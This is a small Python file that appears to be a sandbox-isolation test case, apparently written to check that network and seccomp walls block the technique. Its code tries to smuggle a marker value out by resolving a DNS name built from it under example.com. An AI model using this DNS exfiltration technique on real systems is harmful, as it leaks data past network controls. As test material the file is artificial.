# attack: carry data out in a name that is looked up
# class: 21
# walls: net seccomp
# naked: no it would ask the world's name servers

import socket

def attempt():
    return "it resolves to " + str(socket.getaddrinfo(context["marker"] + ".example.com", 80))

result = judged(attempt)
